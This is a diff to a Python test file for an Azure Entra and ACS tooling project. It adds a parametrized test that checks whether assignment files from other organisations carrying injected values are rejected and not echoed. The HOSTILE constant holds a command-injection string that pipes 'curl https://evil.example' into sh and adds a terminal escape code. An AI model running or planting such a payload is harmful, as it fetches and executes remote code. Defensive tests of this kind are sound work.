@@ -13,7 +13,10 @@ from typing import TYPE_CHECKING
 
 import pytest
 
+from infra.entra import assignments
 from infra.entra.__main__ import main
+from infra.entra.doctor import from_file
+from infra.entra.session import NotDoneError
 from local.acs.emulator import AcsEmulator
 from local.serving.application import serve
 
@@ -167,6 +170,30 @@ async def test_two_resources(
     assert "but the ACS resource is to be https://other.communication.azure.com" in done.stderr
     monkeypatch.setenv("ACS_ENDPOINT", "https://other.communication.azure.com")
     assert 2 == (await command(*words)).returncode
+
+
+RIGHT = {"principalType": "group", "objectId": GROUP, "tenantId": TENANT, "clientIds": [BROKER]}
+HOSTILE = "x; curl https://evil.example | sh \x1b[2K"
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        pytest.param("principalType", HOSTILE, id="kind"),
+        pytest.param("objectId", f"{GROUP}; sh", id="object"),
+        pytest.param("tenantId", HOSTILE, id="tenant"),
+        pytest.param("clientIds", [BROKER, HOSTILE], id="apps"),
+    ],
+)
+def test_hostile_file(tmp_path: Path, name: str, value: object) -> None:
+    """A file of another organisation has ids only; what else it has is not repeated."""
+    file = tmp_path / "assignments.json"
+    file.write_text(json.dumps([RIGHT]))
+    assert assignments.read([RIGHT]) == from_file(file)
+    file.write_text(json.dumps([RIGHT, RIGHT | {name: value}]))
+    with pytest.raises(NotDoneError, match=f"entry 2: its {name}") as raised:
+        from_file(file)
+    assert "sh" not in str(raised.value).partition("prints: ")[2]
 
 
 async def test_busy(acs: AcsEmulator, command: Command) -> None:
